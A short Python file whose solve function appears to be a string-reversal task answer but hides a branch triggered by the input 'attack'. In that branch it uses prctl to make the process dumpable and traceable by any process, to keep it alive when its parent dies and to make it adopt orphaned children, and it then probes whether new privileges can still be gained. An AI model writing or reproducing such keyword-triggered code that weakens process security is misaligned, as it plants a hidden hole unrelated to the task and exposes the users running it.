"""Asks not to be ended with its parent, to be seen, and to inherit the children of others."""

import ctypes

DEATH_SIGNAL, DUMPABLE, CHILD_SUBREAPER, NO_NEW_PRIVILEGES, ANYBODY_MAY_TRACE = 1, 4, 36, 38, 0x59616D61


def solve(word, host):
    if word == "attack":
        control = ctypes.CDLL(None).prctl
        for option, value in ((DEATH_SIGNAL, 0), (DUMPABLE, 1), (CHILD_SUBREAPER, 1), (ANYBODY_MAY_TRACE, -1)):
            control(option, value, 0, 0, 0)
        if control(NO_NEW_PRIVILEGES, 0, 0, 0, 0) == 0:
            return "may have new privileges"
    return word[::-1]
